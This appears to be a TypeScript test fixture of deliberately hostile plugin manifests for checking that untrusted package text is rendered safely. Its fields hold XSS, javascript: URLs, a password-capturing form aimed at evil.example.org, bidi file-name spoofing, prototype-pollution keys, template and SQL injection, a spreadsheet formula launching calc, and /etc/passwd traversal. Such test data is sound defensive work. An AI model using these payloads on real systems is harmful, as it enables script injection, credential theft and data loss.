import { fetched, uploaded, words } from './builders.ts';
import type { Manifest, Package } from './package.ts';

/** Makers write what they like: everything here is a text, and nothing of it may ever be more than that. */

const MARKUP: Manifest = {
  name: 'hostile-markup',
  version: '<b>1.0</b>',
  displayname: words('<img src=x onerror=alert(1)>', '<svg/onload=alert(1)> Auszeichnung'),
  info: words(
    '<script>alert("info")</script><iframe srcdoc="<script>alert(2)</script>"></iframe>"><style>*{display:none}</style>',
    '</p></div><form action="https://evil.example.org"><input name=password autofocus onfocus=alert(3)>',
  ),
  url: 'javascript:alert(document.cookie)',
  custom: { '<img src=x onerror=alert(4)>': '<script>alert(5)</script>' },
  build_info: {
    repository: 'data:text/html,<script>alert(6)</script>',
    rev: '"><img src=x onerror=alert(7)>',
    release: '</script><script>alert(8)</script>',
    lastchanged: 'javascript:alert(9)',
    builddate: '<time>now</time>',
  },
};

const MARKDOWN: Manifest = {
  name: 'hostile-markdown',
  version: '1.0',
  displayname: words(
    '**Bold** [link](javascript:alert(1))',
    '# Überschrift ![Bild](https://evil.example.org/bild)',
  ),
  info: words(
    '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) ![pixel](https://evil.example.org/pixel.gif)\n\n<a href="jav&#x09;ascript:alert(1)">x</a>\n\n| a | b |\n|---|---|\n| `<img onerror>` | ~~c~~ |\n\n```html\n<script>alert(1)</script>\n```',
    '[ref]: javascript:alert(1)\n\n[ref]\n\n<https://evil.example.org/?utm=1>\n\n> > > > > > tief',
  ),
  url: 'https://plugins.example.org@evil.example.org/',
  build_info: { repository: '//evil.example.org/fylr', rev: 'vbscript:msgbox(1)' },
};

/** Marks that turn the direction of what comes after them, each of them named by its number. */
const OVERRIDE = '\u202e';
const ISOLATE = '\u2067';

const DIRECTIONS: Manifest = {
  name: 'hostile-directions',
  version: `1.0${OVERRIDE}9.9`,
  displayname: words(`Invoice ${OVERRIDE}fdp.exe`, `Rechnung ${ISOLATE}fdp.exe`),
  info: words(
    `عربي ثم English ثم עברית, and ${OVERRIDE}this is never closed: on ffo hctiws`,
    `Ohne Ende ${ISOLATE}${ISOLATE}${OVERRIDE} gnutiekcir`,
  ),
  url: `https://plugins.example.org/${OVERRIDE}gro.elpmaxe.live`,
  build_info: { rev: `${OVERRIDE}321cba`, release: 'نسخة ١' },
};

const INVISIBLE: Manifest = {
  name: 'hostile-invisible',
  version: '\u200b1\u200b.\u200b0\ufeff',
  displayname: words('Wa\u200bter\u200cma\u200drk\u2060', '\u00adWas\u00adser\u00adzei\u00adchen\u3164'),
  info: words('\u200b\u200b\u200b', '\u2800\u00a0\u3000'),
  // Cyrillic letters that look like Latin ones.
  custom: { раssword: 'а', 'p\u200bassword': 'b' },
  build_info: { rev: '\ufffe\uffff', release: '\ud7ff\ue000' },
};

const CONTROLS: Manifest = {
  name: 'hostile-controls',
  version: '1\n2\r\n3',
  displayname: words(
    'One line\nand another\ttab\u0007bell\u001b[31mred',
    'Null\u0000in der Mitte\u2028Zeile\u2029Absatz',
  ),
  info: words(`Z${'\u0352\u0363\u0315\u0334'.repeat(40)}algo climbs out of its row`, 'ﷺ'.repeat(60)),
  build_info: { builddate: '\u0085\u000b\u000c', lastchanged: '+275760-09-13T00:00:00.001Z' },
};

const LONG: Manifest = {
  name: 'hostile-length',
  version: '9'.repeat(400),
  displayname: words('No-space-anywhere-'.repeat(40), 'Ä'.repeat(1_000)),
  info: words(
    'A description of ten thousand characters. '.repeat(239).slice(0, 10_000),
    'Ohne jede Lücke'.replaceAll(' ', '\u00a0').repeat(667).slice(0, 10_000),
  ),
  url: `https://plugins.example.org/${'path/'.repeat(400)}`,
  custom: Object.fromEntries(Array.from({ length: 200 }, (_none, at) => [`key_${at}`, `value ${at}`])),
};

const EMOJI: Manifest = {
  name: 'hostile-emoji',
  version: '🆕',
  displayname: words('👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈 Party 🇩🇪🇫🇷', '🫠'.repeat(30)),
  info: words(
    '1️⃣ first 2️⃣ second ‼️ \ud83c\udff4\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
    '𝕱𝖗𝖆𝖐𝖙𝖚𝖗 ａｎｄ ｗｉｄｅ',
  ),
  custom: { '🔑': '🔒' },
};

/** Keys that mean something to JavaScript, or nothing to anybody. */
const KEYS: Manifest = {
  name: 'hostile-keys',
  version: 'constructor',
  displayname: {
    ['__proto__']: 'A name in no language',
    toString: 'Another',
    'en-US': 'Odd keys',
    'de-DE': 'Seltsame Schlüssel',
  },
  info: { '': 'In the language without a name', 'not a language': 'neither', EN_us: 'Wrongly written' },
  custom: {
    ['__proto__']: { isAdmin: true },
    constructor: { prototype: { isAdmin: true } },
    hasOwnProperty: false,
    valueOf: 'not a function',
    length: -1,
    '': '',
    ' ': ' ',
    'a.b[0].c': null,
    '0': [[[[[[]]]]]],
    password: 'in-plain-sight',
    api_key: 'sandbox-secret-0815',
  },
  webfrontend: { ['__proto__']: 'x.js', url: 'javascript:alert(1)', valueOf: null },
};

const TEMPLATES: Manifest = {
  name: 'hostile-templates',
  version: '%s %d %n',
  displayname: words(
    "{{constructor.constructor('alert(1)')()}} ${7*7} {server}",
    '{count, plural, one {#} other {#}} <%= 7*7 %>',
  ),
  info: words(
    "'; DROP TABLE plugins; -- =cmd|' /C calc'!A0 ../../../etc/passwd",
    '{plugin} {0} %27%22 &lt;b&gt; &#x3c; \\u003cscript\\u003e',
  ),
  url: 'https://plugins.example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E#"onmouseover="alert(1)',
};

const AGE = { created: 8 };

export const HOSTILE_PACKAGES: readonly Package[] = [
  uploaded(31001, MARKUP, true, AGE),
  uploaded(31002, MARKDOWN, true, AGE),
  uploaded(31003, DIRECTIONS, true, AGE),
  uploaded(31004, INVISIBLE, false, AGE),
  uploaded(31005, CONTROLS, true, AGE),
  uploaded(31006, LONG, true, AGE),
  uploaded(31007, EMOJI, false, AGE),
  uploaded(31008, KEYS, true, AGE),
  fetched(
    TEMPLATES,
    false,
    '<b>policy</b>',
    AGE,
    'https://plugins.example.org/"onmouseover="alert(1)/<b>.zip',
  ),
];
